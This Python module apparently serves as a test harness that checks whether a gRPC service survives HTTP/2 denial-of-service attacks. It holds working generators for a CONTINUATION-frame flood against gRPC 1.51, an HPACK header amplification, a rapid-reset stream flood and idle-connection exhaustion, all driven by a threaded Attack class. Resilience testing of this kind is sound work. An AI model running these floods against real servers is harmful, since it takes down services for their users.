"""Callers that mean harm, from an address of their own. Bounded in bytes and time."""

import contextlib
import socket
import threading
import time
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

SOURCE = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame().serialize()
CALL = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/attention.v1.AttentionService/Attend"),
    (":authority", "attacker"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def connect(address, source=SOURCE):
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), 30, (source, 0))


def unfinished_header():
    """A header's value that is declared long and comes in CONTINUATIONs of 16 bytes.

    gRPC 1.51 parses what it has from the beginning with each of them.
    """
    declared = b"\x00\x01x" + b"\x7f\x81\xff\xff\x7f"  # x: 2^28 bytes follow
    yield HeadersFrame(1, Encoder().encode(CALL) + declared).serialize()
    piece = ContinuationFrame(1, b"a" * 16).serialize() * 500
    while True:
        yield piece


def repeated_header():
    """One header of 3 KiB in HPACK's table, then a byte for each time it is meant."""
    encoder = Encoder()
    first = encoder.encode([*CALL, ("x", "a" * 3000)], huffman=False)
    again = encoder.encode([("x", "a" * 3000)])
    assert len(again) == 1
    stream = 1
    while True:
        block = first if stream == 1 else encoder.encode(CALL)
        frame = HeadersFrame(stream, block + again * 10000, flags=["END_HEADERS"])
        yield frame.serialize()
        stream += 2


def reset_calls():
    """Calls that are taken back at once."""
    encoder = Encoder()
    first = 1
    while True:
        pieces = []
        for stream in range(first, first + 200, 2):
            block = encoder.encode(CALL)
            pieces.append(HeadersFrame(stream, block, flags=["END_HEADERS"]))
            pieces.append(RstStreamFrame(stream, error_code=8))
        first += 200
        yield b"".join(piece.serialize() for piece in pieces)


@dataclass
class Connection:
    sent: int = 0  # bytes
    closed: bool = False  # by the other side


class Attack:
    """Threads that attack, each again and again until the block ends.

    A thread opens at most 50 connections. One that has sent `most_bytes` stays open.
    """

    def __init__(self, frames, address, threads, most_bytes=64 << 20):
        self.connections = []
        self._frames = frames
        self._address = address
        self._most_bytes = most_bytes
        self._wires = []
        self._ending = threading.Event()
        self._threads = [threading.Thread(target=self._run) for _ in range(threads)]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._ending.set()
        for wire in list(self._wires):
            # One that waits for a reader waits no longer.
            with contextlib.suppress(OSError):
                wire.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join()

    def closed(self):
        return sum(one.closed for one in self.connections)

    def wait_until_closed(self, count, seconds=60):
        end = time.monotonic() + seconds
        while self.closed() < count:
            assert time.monotonic() < end, f"after {seconds} s: {self}"
            time.sleep(0.02)

    def __str__(self):
        sent = max((one.sent for one in self.connections), default=0)
        return (
            f"{len(self.connections)} connections of attackers, {self.closed()} closed "
            f"by the other side, at most {sent / 2**20:.1f} MiB sent on one"
        )

    def _run(self):
        for _ in range(50):
            if self._ending.is_set():
                break
            connection = Connection()
            self.connections.append(connection)
            try:
                self._attack(connection)
            except ConnectionError:
                connection.closed = not self._ending.is_set()

    def _attack(self, connection):
        with connect(self._address) as wire:
            self._wires.append(wire)
            wire.sendall(PREFACE)
            for piece in self._frames():
                wire.sendall(piece)
                connection.sent += len(piece)
                if self._ending.is_set():
                    break
                if connection.sent >= self._most_bytes:
                    self._ending.wait()
                    break


class IdleConnections:
    """So many at once, which say nothing."""

    def __init__(self, address, count):
        self._wires = []
        for _ in range(count):
            try:
                self._wires.append(connect(address))
            except ConnectionError:
                continue

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for wire in self._wires:
            wire.close()

    def held(self):
        """How many the other side holds, too."""
        return sum(not is_closed(wire) for wire in self._wires)


def is_closed(wire):
    wire.setblocking(False)
    try:
        while wire.recv(1 << 16):
            pass
        return True
    except BlockingIOError:
        return False
    except ConnectionError:
        return True


def end_of_half_a_call(address):
    """What ends a call whose headers stop midway: a frame's name, or "closed"."""
    received = b""
    # From an address that has not opened many connections before.
    with connect(address, "127.0.0.3") as wire:
        begun = HeadersFrame(1, Encoder().encode(CALL)).serialize()
        wire.sendall(PREFACE + begun)
        while chunk := wire.recv(1 << 16):
            received += chunk
            while len(received) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(received[:9]))
                if isinstance(frame, (GoAwayFrame, HeadersFrame, RstStreamFrame)):
                    return type(frame).__name__
                if len(received) < 9 + length:
                    break
                received = received[9 + length :]
    return "closed"
